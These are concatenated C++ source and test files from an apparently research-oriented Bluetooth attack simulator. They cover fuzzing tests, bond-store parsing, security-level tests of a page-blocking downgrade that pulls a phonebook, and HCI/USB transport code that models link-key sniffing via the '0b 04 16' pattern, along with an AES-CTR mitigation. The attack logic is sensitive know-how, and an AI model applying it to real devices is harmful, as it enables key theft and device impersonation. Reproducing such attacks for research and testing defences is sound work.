    ASSERT_NE(target, nullptr) << name;
    EXPECT_EQ(target->name(), name);
    EXPECT_FALSE(target->seed_inputs().empty()) << name;
  }
  EXPECT_FALSE(resolve_target("bogus"));
}

// The acceptance-gate contract: the campaign report — corpus digest,
// per-shard feature counts, findings, the full JSON artifact — is
// byte-identical across worker counts and across runs. CI re-checks this on
// the real blap-fuzz binary; this is the in-process version.
TEST(FuzzEngine, ReportIsWorkerCountAndRunIndependent) {
  FuzzConfig cfg;
  cfg.target = "hci_codec";
  cfg.seed = 7;
  cfg.iterations = 60;
  cfg.shards = 4;

  cfg.jobs = 1;
  const auto serial = run_fuzz_campaign(cfg);
  ASSERT_TRUE(serial.has_value());

  cfg.jobs = 2;
  const auto threaded = run_fuzz_campaign(cfg);
  ASSERT_TRUE(threaded.has_value());

  cfg.jobs = 1;
  const auto rerun = run_fuzz_campaign(cfg);
  ASSERT_TRUE(rerun.has_value());

  EXPECT_EQ(serial->corpus_digest, threaded->corpus_digest);
  EXPECT_EQ(serial->corpus_digest, rerun->corpus_digest);
  EXPECT_EQ(serial->shard_features, threaded->shard_features);
  EXPECT_EQ(serial->executions, threaded->executions);
  EXPECT_EQ(serial->to_json(), threaded->to_json());
  EXPECT_EQ(serial->to_json(), rerun->to_json());
}

TEST(FuzzEngine, CoverageGuidanceGrowsTheCorpus) {
  FuzzConfig cfg;
  cfg.target = "lmp_codec";
  cfg.seed = 3;
  cfg.iterations = 200;
  cfg.shards = 2;
  cfg.jobs = 1;
  const auto report = run_fuzz_campaign(cfg);
  ASSERT_TRUE(report.has_value());
  // The merged corpus must exceed the seeds: mutation found inputs that
  // grew the feature map, i.e. the scheduler is actually guided.
  std::size_t seed_count = 0;
  if (const auto factory = resolve_target("lmp_codec"))
    seed_count = factory()->seed_inputs().size();
  EXPECT_GT(report->corpus.size(), seed_count);
  for (const std::size_t features : report->shard_features) EXPECT_GT(features, 0u);
}

// --- the ISSUE's fixed-seed stack smoke --------------------------------------

// 500 mutation executions against the live stack (2 shards x 250), every
// one a snapshot fork of the warm bonded cell with the InvariantMonitor
// attached: zero invariant violations, zero stuck drains, zero runaway
// schedulers. The codec fuzz campaigns above run tens of thousands of
// executions in CI; the stack budget is smaller because each execution
// steps a whole simulated cell, and the long campaigns live in the CI fuzz
// job instead (EXPERIMENTS.md).
TEST(FuzzEngine, FixedSeedStackSmokeIsClean) {
  FuzzConfig cfg;
  cfg.target = "stack";
  cfg.seed = kStackSeed;
  cfg.iterations = 250;
  cfg.shards = 2;
  cfg.jobs = 0;  // resolve via BLAP_JOBS/cores; determinism must not care
  const auto report = run_fuzz_campaign(cfg);
  ASSERT_TRUE(report.has_value());
  EXPECT_GE(report->executions, 500u);
  for (const Finding& f : report->findings)
    ADD_FAILURE() << "finding [" << f.kind << "] at shard " << f.shard << " iteration "
                  << f.iteration << ": " << f.detail;
  EXPECT_FALSE(report->corpus_digest.empty());
}

// --- stack target bundles ----------------------------------------------------

TEST(FuzzStackTarget, BundlesCarryTheInputAndSnapshot) {
  StackTarget target;
  const auto seeds = target.seed_inputs();
  ASSERT_FALSE(seeds.empty());

  FeatureSink sink;
  const ExecResult result = target.execute(seeds[0], sink);
  EXPECT_FALSE(result.finding) << result.kind << ": " << result.detail;
  EXPECT_FALSE(sink.features().empty()) << "stack execution emitted no features";

  const auto bundle = target.make_bundle(seeds[0], result);
  ASSERT_TRUE(bundle.has_value());
  EXPECT_EQ(bundle->trial_kind, "fuzz_stack");
  EXPECT_EQ(bundle->fuzz_input, seeds[0]);
  EXPECT_EQ(bundle->trial_seed, kStackSeed);
  EXPECT_EQ(bundle->warm_setup, "bonded");
  EXPECT_FALSE(bundle->snapshot.empty());
  EXPECT_TRUE(bundle->expected_success);
}

}  // namespace
}  // namespace blap::fuzz
