// Unit tests for the bonded-device store and the bt_config.conf format.
#include <gtest/gtest.h>

#include "host/security_manager.hpp"

namespace blap::host {
namespace {

const BdAddr kAddrM = *BdAddr::parse("48:90:12:34:56:78");
const BdAddr kAddrC = *BdAddr::parse("00:1b:7d:da:71:0a");

BondRecord bond_for_m() {
  BondRecord record;
  record.address = kAddrM;
  record.name = "VELVET";
  record.link_key = *crypto::link_key_from_hex("71a70981f30d6af9e20adee8aafe3264");
  record.key_type = crypto::LinkKeyType::kUnauthenticatedCombinationP192;
  record.services = {Uuid::from_uuid16(uuid16::kPanu), Uuid::from_uuid16(uuid16::kNap)};
  return record;
}

TEST(SecurityManager, StoreAndLookup) {
  SecurityManager manager;
  EXPECT_FALSE(manager.is_bonded(kAddrM));
  manager.store_bond(bond_for_m());
  EXPECT_TRUE(manager.is_bonded(kAddrM));
  ASSERT_TRUE(manager.link_key_for(kAddrM).has_value());
  EXPECT_EQ(hex(*manager.link_key_for(kAddrM)), "71a70981f30d6af9e20adee8aafe3264");
  EXPECT_FALSE(manager.link_key_for(kAddrC).has_value());
}

TEST(SecurityManager, OverwriteReplacesKey) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  BondRecord updated = bond_for_m();
  updated.link_key.fill(0xEE);
  manager.store_bond(updated);
  EXPECT_EQ(manager.bond_count(), 1u);
  EXPECT_EQ((*manager.link_key_for(kAddrM))[0], 0xEE);
}

TEST(SecurityManager, RemoveBond) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  manager.remove_bond(kAddrM);
  EXPECT_FALSE(manager.is_bonded(kAddrM));
}

TEST(SecurityManager, PurgePolicyOnlyOnCryptoFailures) {
  // The property the extraction attack's stall depends on (paper §IV-C).
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  EXPECT_FALSE(manager.on_authentication_result(kAddrM, hci::Status::kConnectionTimeout));
  EXPECT_FALSE(manager.on_authentication_result(kAddrM, hci::Status::kLmpResponseTimeout));
  EXPECT_FALSE(manager.on_authentication_result(kAddrM,
                                                hci::Status::kRemoteUserTerminatedConnection));
  EXPECT_TRUE(manager.is_bonded(kAddrM));  // survived all timeouts
  EXPECT_TRUE(manager.on_authentication_result(kAddrM, hci::Status::kAuthenticationFailure));
  EXPECT_FALSE(manager.is_bonded(kAddrM));  // purged on the real failure
}

TEST(SecurityManager, PurgeOnKeyMissing) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  EXPECT_TRUE(manager.on_authentication_result(kAddrM, hci::Status::kPinOrKeyMissing));
  EXPECT_FALSE(manager.is_bonded(kAddrM));
}

TEST(SecurityManager, BtConfigMatchesPaperFig10Shape) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  const std::string config = manager.to_bt_config();
  EXPECT_NE(config.find("[48:90:12:34:56:78]"), std::string::npos);
  EXPECT_NE(config.find("Name = VELVET"), std::string::npos);
  EXPECT_NE(config.find("Service = 00001115-0000-1000-8000-00805f9b34fb "
                        "00001116-0000-1000-8000-00805f9b34fb"),
            std::string::npos);
  EXPECT_NE(config.find("LinkKey = 71a70981f30d6af9e20adee8aafe3264"), std::string::npos);
}

TEST(SecurityManager, BtConfigRoundTrip) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  BondRecord second;
  second.address = kAddrC;
  second.name = "carkit";
  second.link_key.fill(0x5A);
  second.key_type = crypto::LinkKeyType::kAuthenticatedCombinationP256;
  manager.store_bond(second);

  const SecurityManager parsed = SecurityManager::from_bt_config(manager.to_bt_config());
  EXPECT_EQ(parsed.bond_count(), 2u);
  ASSERT_TRUE(parsed.bond_for(kAddrM) != nullptr);
  EXPECT_EQ(parsed.bond_for(kAddrM)->name, "VELVET");
  EXPECT_EQ(parsed.bond_for(kAddrM)->services.size(), 2u);
  EXPECT_EQ(parsed.bond_for(kAddrC)->key_type,
            crypto::LinkKeyType::kAuthenticatedCombinationP256);
  EXPECT_EQ(*parsed.link_key_for(kAddrC), second.link_key);
}

TEST(SecurityManager, ParsesHandWrittenFakeBondingInfo) {
  // Exactly the paper's Fig. 10 content, hand-typed by the attacker.
  const std::string fake =
      "[48:90:12:34:56:78]\n"
      "Name = VELVET\n"
      "Service = 00001115-0000-1000-8000-00805f9b34fb "
      "00001116-0000-1000-8000-00805f9b34fb\n"
      "LinkKey = 71a70981f30d6af9e20adee8aafe3264\n";
  const SecurityManager parsed = SecurityManager::from_bt_config(fake);
  ASSERT_TRUE(parsed.is_bonded(kAddrM));
  EXPECT_EQ(hex(*parsed.link_key_for(kAddrM)), "71a70981f30d6af9e20adee8aafe3264");
}

TEST(SecurityManager, ParserSkipsMalformedSections) {
  const std::string mixed =
      "[not-an-address]\n"
      "LinkKey = 00112233445566778899aabbccddeeff\n"
      "\n"
      "[48:90:12:34:56:78]\n"
      "LinkKey = zzzz\n"  // bad key -> section dropped
      "\n"
      "[00:1b:7d:da:71:0a]\n"
      "# a comment line\n"
      "Name = good\n"
      "LinkKey = 00112233445566778899aabbccddeeff\n";
  const SecurityManager parsed = SecurityManager::from_bt_config(mixed);
  EXPECT_EQ(parsed.bond_count(), 1u);
  EXPECT_TRUE(parsed.is_bonded(kAddrC));
  EXPECT_FALSE(parsed.is_bonded(kAddrM));
}

TEST(SecurityManager, ParserHandlesEmptyAndGarbage) {
  EXPECT_EQ(SecurityManager::from_bt_config("").bond_count(), 0u);
  EXPECT_EQ(SecurityManager::from_bt_config("random text\nno sections").bond_count(), 0u);
}

TEST(SecurityManager, BondsListsAll) {
  SecurityManager manager;
  manager.store_bond(bond_for_m());
  BondRecord second;
  second.address = kAddrC;
  second.link_key.fill(1);
  manager.store_bond(second);
  EXPECT_EQ(manager.bonds().size(), 2u);
}

}  // namespace
}  // namespace blap::host
