// Tests for GAP Security Mode 4 service levels — and why they matter for
// the SSP downgrade: a Just Works key satisfies level 2 (which is all PAN,
// PBAP and HFP demand in practice — the attack surface), but a level-3
// service refuses it, blunting the downgrade.
#include <gtest/gtest.h>

#include "core/page_blocking.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

/// Register a level-3 test service on a device and probe it from a peer.
constexpr std::uint16_t kVaultPsm = 0x1777;

void register_vault(Device& device, int& serves) {
  host::L2cap::Service vault;
  vault.requires_authentication = true;
  vault.minimum_security = host::L2cap::SecurityLevel::kMitmProtected;
  vault.on_data = [&serves](const host::L2capChannel&, BytesView) { ++serves; };
  device.host().l2cap().register_service(kVaultPsm, std::move(vault));
}

bool probe_vault(Simulation& sim, Device& client, Device& server) {
  const auto acls = client.host().acls();
  hci::ConnectionHandle handle = hci::kInvalidHandle;
  for (const auto& acl : acls)
    if (acl.peer == server.address()) handle = acl.handle;
  if (handle == hci::kInvalidHandle) return false;
  bool opened = false;
  bool known = false;
  client.host().l2cap().connect_channel(handle, kVaultPsm,
                                        [&](std::optional<host::L2capChannel> ch) {
                                          opened = ch.has_value();
                                          known = true;
                                        });
  sim.run_for(2 * kSecond);
  return known && opened;
}

TEST(SecurityLevels, NumericComparisonKeySatisfiesLevel3) {
  Simulation sim(120);
  Device& a = sim.add_device(spec("laptop", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  int serves = 0;
  register_vault(b, serves);

  bool done = false;
  a.host().pair(b.address(), [&](hci::Status s) { done = s == hci::Status::kSuccess; });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  // Both DisplayYesNo => Numeric Comparison => authenticated key.
  EXPECT_TRUE(probe_vault(sim, a, b));
}

TEST(SecurityLevels, JustWorksKeyFailsLevel3) {
  Simulation sim(121);
  Device& a = sim.add_device(spec("headless", "00:00:00:00:00:01"));
  a.host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  Device& b = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  int serves = 0;
  register_vault(b, serves);

  bool done = false;
  a.host().pair(b.address(), [&](hci::Status s) { done = s == hci::Status::kSuccess; });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  // NoInputNoOutput => Just Works => unauthenticated key => level 3 refused,
  // even though the link IS authenticated and encrypted.
  EXPECT_TRUE(a.host().acls()[0].encrypted);
  EXPECT_FALSE(probe_vault(sim, a, b));
}

TEST(SecurityLevels, PageBlockedBondCannotReachLevel3Service) {
  // The downgrade's limit: the MITM bond from page blocking is a Just Works
  // key, so a level-3 service on the victim stays closed to the attacker —
  // but the level-2 profiles (PAN/PBAP/HFP) remain exposed, which is why
  // the paper's impact stands for today's profiles.
  Simulation sim(122);
  DeviceSpec a_spec = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c_spec = accessory_profile().to_spec("headset", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                                  ClassOfDevice(ClassOfDevice::kHandsFree));
  c_spec.host.io_capability = hci::IoCapability::kNoInputNoOutput;
  DeviceSpec m_spec = table2_profiles()[5].to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  Device& attacker = sim.add_device(a_spec);
  Device& accessory = sim.add_device(c_spec);
  Device& target = sim.add_device(m_spec);
  int serves = 0;
  register_vault(target, serves);

  const auto report = PageBlockingAttack::run(sim, attacker, accessory, target, {});
  ASSERT_TRUE(report.mitm_established);
  ASSERT_TRUE(report.downgraded_to_just_works);

  // Level-2 probe (PBAP) succeeds...
  std::optional<std::vector<std::string>> loot;
  bool pbap_done = false;
  attacker.host().pull_phonebook(target.address(),
                                 [&](std::optional<std::vector<std::string>> e) {
                                   loot = std::move(e);
                                   pbap_done = true;
                                 });
  for (int i = 0; i < 200 && !pbap_done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(pbap_done);
  EXPECT_TRUE(loot.has_value());

  // ...while the level-3 vault refuses the unauthenticated key.
  EXPECT_FALSE(probe_vault(sim, attacker, target));
  EXPECT_EQ(serves, 0);
}

TEST(SecurityLevels, Level2ServicesUnaffectedByLevelPolicy) {
  // Existing behavior regression guard: default services still open for
  // Just Works bonds.
  Simulation sim(123);
  Device& a = sim.add_device(spec("headless", "00:00:00:00:00:01"));
  a.host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  Device& b = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  bool pan_ok = false;
  bool done = false;
  a.host().connect_pan(b.address(), [&](bool ok) {
    pan_ok = ok;
    done = true;
  });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  EXPECT_TRUE(pan_ok);
}

}  // namespace
}  // namespace blap::core
