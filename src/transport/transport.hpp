// transport.hpp — the physical HCI transport between host and controller.
//
// The Bluetooth architecture deliberately separates host and controller; the
// bytes between them travel over a real physical interface (UART inside
// phones, USB for PC dongles). That physical reality is the paper's §IV-B
// attack surface: whoever can observe the interface sees link keys in
// plaintext. BLAP models the transport as a scheduler-driven channel with
// per-direction delivery callbacks and passive taps:
//   * the host's HCI-dump tap hangs off the transport (Android snoop log),
//   * the USB sniffer hangs off UsbTransport's frame stream (FTS4USB-style).
#pragma once

#include <functional>
#include <memory>
#include <optional>
#include <vector>

#include "common/scheduler.hpp"
#include "common/state_io.hpp"
#include "crypto/aes128.hpp"
#include "hci/packets.hpp"

namespace blap::transport {

/// Abstract HCI transport. One instance connects exactly one host to one
/// controller. Packets are delivered asynchronously via the scheduler so
/// that HCI traffic interleaves realistically with radio traffic.
class HciTransport {
 public:
  using Receiver = std::function<void(const hci::HciPacket&)>;
  /// A tap observes every packet with its direction, at the moment it is
  /// submitted (before transit delay) — matching how snoop logs and hardware
  /// analyzers capture at the sending connector.
  using Tap = std::function<void(hci::Direction, const hci::HciPacket&)>;

  explicit HciTransport(Scheduler& scheduler) : scheduler_(scheduler) {}
  virtual ~HciTransport() = default;
  HciTransport(const HciTransport&) = delete;
  HciTransport& operator=(const HciTransport&) = delete;

  /// Install the receive callback for packets flowing toward the host
  /// (events, incoming ACL) or toward the controller (commands, outgoing ACL).
  void set_host_receiver(Receiver receiver) { to_host_ = std::move(receiver); }
  void set_controller_receiver(Receiver receiver) { to_controller_ = std::move(receiver); }

  /// Submit a packet. Direction is from the sender's perspective.
  void send(hci::Direction direction, const hci::HciPacket& packet);

  /// Attach a passive observer (HCI dump, USB analyzer...).
  void add_tap(Tap tap) { taps_.push_back(std::move(tap)); }

  /// §VII-A2 mitigation: host and controller share a session key and encrypt
  /// the 16-byte link key field of key-bearing HCI packets
  /// (Link_Key_Request_Reply, Link_Key_Notification) with AES-CTR. Passive
  /// observers — the snoop tap AND hardware sniffers — then see ciphertext,
  /// while the endpoints continue to exchange usable keys.
  void set_link_key_payload_protection(std::optional<crypto::Aes128::Key> key);
  [[nodiscard]] bool link_key_payload_protected() const { return protection_key_.has_value(); }

  [[nodiscard]] Scheduler& scheduler() { return scheduler_; }

  /// Snapshot support: wire-protection state plus the attached-tap count.
  /// Taps themselves are callbacks and cannot be serialized; a kRewind
  /// restore truncates the tap list back to the captured count, dropping
  /// exactly the observers a trial attached after the capture point.
  /// Subclasses with extra observable state (UsbTransport's frame-observer
  /// list) extend both methods.
  virtual void save_state(state::StateWriter& w) const;
  virtual void load_state(state::StateReader& r, state::RestoreMode mode);

 protected:
  /// Transit delay for a packet of the given wire size.
  [[nodiscard]] virtual SimTime transit_delay(std::size_t wire_bytes) const = 0;

  /// Hook for subclasses to observe the wire form (USB framing, etc.).
  virtual void on_wire(hci::Direction direction, const hci::HciPacket& packet) {
    (void)direction;
    (void)packet;
  }

 private:
  /// The wire view of a packet: identical to `packet` unless protection is
  /// active and the packet carries a link key, in which case the key field
  /// is AES-CTR encrypted.
  [[nodiscard]] hci::HciPacket wire_view(hci::Direction direction,
                                         const hci::HciPacket& packet);

  Scheduler& scheduler_;
  Receiver to_host_;
  Receiver to_controller_;
  std::vector<Tap> taps_;
  std::optional<crypto::Aes128::Key> protection_key_;
  std::uint64_t protection_counter_[2] = {0, 0};
  /// Per-direction FIFO watermark: no delivery may be scheduled before the
  /// previous delivery in the same direction (a serial line cannot reorder).
  /// Deliberately not serialized — it is derivable pessimism, not protocol
  /// state — so snapshot byte layout and the pinned replay corpus are
  /// unaffected; load_state() clears it on rewind instead.
  SimTime line_clear_at_[2] = {0, 0};
};

}  // namespace blap::transport
