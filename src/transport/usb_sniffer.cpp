#include "transport/usb_sniffer.hpp"

namespace blap::transport {

UsbSniffer::UsbSniffer(UsbTransport& transport, Rng* padding_rng) : padding_rng_(padding_rng) {
  transport.add_frame_observer([this](const UsbFrame& frame) { on_frame(frame); });
}

void UsbSniffer::on_frame(const UsbFrame& frame) {
  frames_.push_back(frame);

  ByteWriter w;
  w.u8('U').u8('R').u8('B');
  w.u8(frame.endpoint);
  w.u32(static_cast<std::uint32_t>(frame.timestamp_us));
  w.u16(static_cast<std::uint16_t>(frame.payload.size()));
  w.raw(frame.payload);
  const Bytes record = std::move(w).take();
  stream_.insert(stream_.end(), record.begin(), record.end());

  if (padding_rng_ != nullptr) {
    const std::size_t pad = padding_rng_->uniform(17);
    stream_.insert(stream_.end(), pad, 0x00);
  }
}

}  // namespace blap::transport
