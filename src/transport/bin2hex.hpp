// bin2hex.hpp — the paper's "BinaryToHex" converter ([27]).
//
// The USB-sniff attack path is: capture raw binary stream → convert to an
// ASCII hex string → text-search for the "0b 04 16" opcode/length prefix of
// HCI_Link_Key_Request_Reply. This module is the conversion step, producing
// the space-separated lowercase hex the search operates on.
#pragma once

#include <string>

#include "common/bytes.hpp"

namespace blap::transport {

/// Convert a binary stream to space-separated hex, `bytes_per_line` bytes per
/// output line (0 = single line). This is the format the extraction search
/// runs over; line breaks never split a byte but may split a match, so the
/// extractor searches the joined form.
[[nodiscard]] std::string bin_to_hex_ascii(BytesView data, std::size_t bytes_per_line = 16);

/// Inverse conversion (accepts the output of bin_to_hex_ascii).
[[nodiscard]] std::optional<Bytes> hex_ascii_to_bin(const std::string& text);

}  // namespace blap::transport
