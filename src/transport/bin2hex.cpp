#include "transport/bin2hex.hpp"

namespace blap::transport {

std::string bin_to_hex_ascii(BytesView data, std::size_t bytes_per_line) {
  static constexpr char digits[] = "0123456789abcdef";
  std::string out;
  out.reserve(data.size() * 3 + 16);
  for (std::size_t i = 0; i < data.size(); ++i) {
    if (i != 0) {
      if (bytes_per_line != 0 && i % bytes_per_line == 0) out.push_back('\n');
      else out.push_back(' ');
    }
    out.push_back(digits[data[i] >> 4]);
    out.push_back(digits[data[i] & 0xF]);
  }
  return out;
}

std::optional<Bytes> hex_ascii_to_bin(const std::string& text) { return unhex(text); }

}  // namespace blap::transport
