#include "transport/uart_transport.hpp"

// UartTransport is fully defined in the header; this translation unit anchors
// the vtable.
namespace blap::transport {}
