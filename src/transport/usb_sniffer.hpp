// usb_sniffer.hpp — a passive USB protocol analyzer (the §IV-B capture tool).
//
// Models 'Free USB Analyzer' / FTS4USB clipped onto the host–dongle USB bus:
// it appends every transfer to a raw binary capture. The capture format is a
// simple URB-record stream (header + payload), interleaved with NULL padding
// the way real bus captures contain idle/NULL traffic — the paper notes "the
// USB dump comprises lots of HCI and NULL data", which is exactly the
// haystack the 0b-04-16 search has to cut through.
//
// Record layout (little-endian):
//   'U' 'R' 'B' | endpoint u8 | timestamp u32 (us, truncated) |
//   length u16 | payload bytes | <zero padding, 0-16 bytes>
#pragma once

#include "transport/usb_transport.hpp"

#include "common/rng.hpp"

namespace blap::transport {

class UsbSniffer {
 public:
  /// Attach to a transport. `padding_rng` drives the NULL-padding lengths
  /// (pass a seeded fork for reproducible captures); nullptr disables padding.
  explicit UsbSniffer(UsbTransport& transport, Rng* padding_rng = nullptr);

  /// The raw binary capture so far (what the analyzer saves to disk).
  [[nodiscard]] const Bytes& raw_stream() const { return stream_; }

  /// All structured frames (what the analyzer's protocol view shows).
  [[nodiscard]] const std::vector<UsbFrame>& frames() const { return frames_; }

  [[nodiscard]] std::size_t frame_count() const { return frames_.size(); }
  void clear() {
    stream_.clear();
    frames_.clear();
  }

 private:
  void on_frame(const UsbFrame& frame);

  Bytes stream_;
  std::vector<UsbFrame> frames_;
  Rng* padding_rng_;
};

}  // namespace blap::transport
