#include "transport/usb_transport.hpp"

namespace blap::transport {

std::uint8_t UsbTransport::endpoint_for(hci::PacketType type, hci::Direction direction) {
  switch (type) {
    case hci::PacketType::kCommand: return 0x00;
    case hci::PacketType::kEvent: return 0x81;
    case hci::PacketType::kAclData:
      return direction == hci::Direction::kHostToController ? 0x02 : 0x82;
    case hci::PacketType::kScoData:
      return direction == hci::Direction::kHostToController ? 0x03 : 0x83;
  }
  return 0x00;
}

void UsbTransport::on_wire(hci::Direction direction, const hci::HciPacket& packet) {
  if (frame_observers_.empty()) return;
  UsbFrame frame;
  frame.timestamp_us = scheduler().now();
  frame.endpoint = endpoint_for(packet.type, direction);
  frame.payload = packet.payload;  // USB HCI carries the body without H4 byte
  for (const auto& observer : frame_observers_) observer(frame);
}

void UsbTransport::save_state(state::StateWriter& w) const {
  HciTransport::save_state(w);
  w.u64(frame_observers_.size());
}

void UsbTransport::load_state(state::StateReader& r, state::RestoreMode mode) {
  HciTransport::load_state(r, mode);
  const std::uint64_t observer_count = r.u64();
  if (mode == state::RestoreMode::kRewind && frame_observers_.size() > observer_count)
    frame_observers_.resize(static_cast<std::size_t>(observer_count));
}

}  // namespace blap::transport
