// uart_transport.hpp — H4 UART transport (controller-type chipsets).
//
// Phones connect their application processor to the Bluetooth controller
// over a UART running the H4 protocol: exactly the type byte + payload
// framing of HciPacket::to_wire(). Transit delay models the serial line at a
// configurable baud rate (default 3 Mbaud, a common BT UART speed).
#pragma once

#include "transport/transport.hpp"

namespace blap::transport {

class UartTransport final : public HciTransport {
 public:
  explicit UartTransport(Scheduler& scheduler, std::uint32_t baud_rate = 3'000'000)
      : HciTransport(scheduler), baud_rate_(baud_rate) {}

 protected:
  [[nodiscard]] SimTime transit_delay(std::size_t wire_bytes) const override {
    // 10 bit times per byte (8N1), in microseconds.
    return static_cast<SimTime>(wire_bytes) * 10u * kSecond / baud_rate_ + 1;
  }

 private:
  std::uint32_t baud_rate_;
};

}  // namespace blap::transport
