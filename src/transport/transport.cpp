#include "transport/transport.hpp"

#include "chaos/failpoint.hpp"
#include "hci/constants.hpp"

namespace blap::transport {

void HciTransport::set_link_key_payload_protection(std::optional<crypto::Aes128::Key> key) {
  protection_key_ = key;
  protection_counter_[0] = protection_counter_[1] = 0;
}

hci::HciPacket HciTransport::wire_view(hci::Direction direction, const hci::HciPacket& packet) {
  if (!protection_key_) return packet;

  // Locate a 16-byte link key field inside the packet, if any.
  std::size_t key_offset = 0;
  if (packet.type == hci::PacketType::kCommand &&
      packet.command_opcode() == hci::op::kLinkKeyRequestReply && packet.payload.size() >= 25) {
    key_offset = 3 + 6;  // opcode(2) + len(1) + BD_ADDR(6)
  } else if (packet.type == hci::PacketType::kEvent &&
             packet.event_code() == hci::ev::kLinkKeyNotification &&
             packet.payload.size() >= 24) {
    key_offset = 2 + 6;  // event code(1) + len(1) + BD_ADDR(6)
  } else {
    return packet;
  }

  // AES-CTR keystream block: [counter LE u64 | direction | zero padding].
  const std::uint64_t counter = protection_counter_[static_cast<int>(direction)]++;
  crypto::Aes128::Block nonce{};
  for (int i = 0; i < 8; ++i) nonce[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(counter >> (8 * i));
  nonce[8] = static_cast<std::uint8_t>(direction);
  const crypto::Aes128 cipher(*protection_key_);
  const crypto::Aes128::Block keystream = cipher.encrypt(nonce);

  hci::HciPacket protected_packet = packet;
  for (std::size_t i = 0; i < 16; ++i) protected_packet.payload[key_offset + i] ^= keystream[i];
  return protected_packet;
}

void HciTransport::save_state(state::StateWriter& w) const {
  w.boolean(protection_key_.has_value());
  if (protection_key_.has_value()) w.fixed(*protection_key_);
  w.u64(protection_counter_[0]);
  w.u64(protection_counter_[1]);
  w.u64(taps_.size());
}

void HciTransport::load_state(state::StateReader& r, state::RestoreMode mode) {
  if (r.boolean()) {
    protection_key_ = r.fixed<crypto::Aes128::kKeySize>();
  } else {
    protection_key_.reset();
  }
  protection_counter_[0] = r.u64();
  protection_counter_[1] = r.u64();
  const std::uint64_t tap_count = r.u64();
  if (mode == state::RestoreMode::kRewind && taps_.size() > tap_count)
    taps_.resize(static_cast<std::size_t>(tap_count));
  // After a clock rewind the FIFO watermark may sit in the (new) future and
  // would spuriously delay the first post-restore frames; the line is idle
  // at a freshly restored instant, so clear it.
  if (mode == state::RestoreMode::kRewind) line_clear_at_[0] = line_clear_at_[1] = 0;
}

void HciTransport::send(hci::Direction direction, const hci::HciPacket& packet) {
  const hci::HciPacket observed = wire_view(direction, packet);
  for (const auto& tap : taps_) tap(direction, observed);
  on_wire(direction, observed);
  SimTime delay = transit_delay(packet.to_wire().size());
  // UART flow control wedges for ~100 ms before the frame gets through.
  // Liveness-safe on purpose: every HCI packet still arrives, late enough
  // to race any timer in the stack.
  if (BLAP_FAILPOINT("transport.frame.stall")) delay += 100'000;
  // Serialize the line: H4/USB carry each direction as a FIFO, so a packet
  // can never overtake one submitted earlier in the same direction — even
  // though a short frame's transit is faster than a long one's. Without
  // this clamp a Disconnection_Complete could arrive before the
  // Connection_Complete whose link it kills (found by the chaos sweep:
  // controller.supervision.timer_early left the host holding a phantom
  // ACL). Equal delivery instants keep submission order via scheduler
  // sequence numbers.
  const auto dir = static_cast<std::size_t>(direction);
  const SimTime now = scheduler_.now();
  SimTime deliver_at = now + delay;
  if (deliver_at < line_clear_at_[dir]) deliver_at = line_clear_at_[dir];
  line_clear_at_[dir] = deliver_at;
  // The receiving endpoint shares the session key and recovers the
  // plaintext, so delivery carries the original packet.
  hci::HciPacket copy = packet;
  if (direction == hci::Direction::kHostToController) {
    scheduler_.schedule_in(deliver_at - now, [this, copy = std::move(copy)] {
      if (to_controller_) to_controller_(copy);
    });
  } else {
    scheduler_.schedule_in(deliver_at - now, [this, copy = std::move(copy)] {
      if (to_host_) to_host_(copy);
    });
  }
}

}  // namespace blap::transport
