// usb_transport.hpp — USB-encapsulated HCI (PC dongles, "QSENN CSR V4.0").
//
// The USB Bluetooth class (Core spec Vol 4, Part B) maps HCI channels onto
// USB endpoints:
//   * commands  → control endpoint 0x00 (class-specific request, no H4 byte)
//   * events    → interrupt IN endpoint 0x81
//   * ACL data  → bulk OUT 0x02 / bulk IN 0x82
//
// A hardware USB analyzer (the paper uses 'Free USB Analyzer' / FTS4USB)
// records these transfers as a raw binary stream. UsbTransport reproduces
// that: every HCI packet becomes a UsbFrame, and registered frame observers
// (the UsbSniffer) see the same byte layout a real capture would contain —
// in particular, a Link_Key_Request_Reply command appears as a control
// transfer whose payload starts "0b 04 16", the pattern the paper's
// extraction searches for.
#pragma once

#include <functional>
#include <vector>

#include "transport/transport.hpp"

namespace blap::transport {

/// One captured USB transfer.
struct UsbFrame {
  SimTime timestamp_us = 0;
  std::uint8_t endpoint = 0x00;  // 0x00 control, 0x81 intr IN, 0x02/0x82 bulk
  Bytes payload;                 // HCI packet body without the H4 type byte
};

class UsbTransport final : public HciTransport {
 public:
  using FrameObserver = std::function<void(const UsbFrame&)>;

  /// USB 2.0 full-speed-ish service latency; per-transfer overhead dominates
  /// packet size at HCI scales.
  explicit UsbTransport(Scheduler& scheduler, SimTime per_transfer_overhead_us = 125)
      : HciTransport(scheduler), overhead_us_(per_transfer_overhead_us) {}

  /// Attach a frame observer (a USB protocol analyzer clipped onto the bus).
  void add_frame_observer(FrameObserver observer) {
    frame_observers_.push_back(std::move(observer));
  }

  /// Endpoint assignment for a packet type and direction.
  [[nodiscard]] static std::uint8_t endpoint_for(hci::PacketType type, hci::Direction direction);

  /// Snapshot support: base-transport state plus the frame-observer count
  /// (a kRewind restore drops analyzers clipped on after the capture).
  void save_state(state::StateWriter& w) const override;
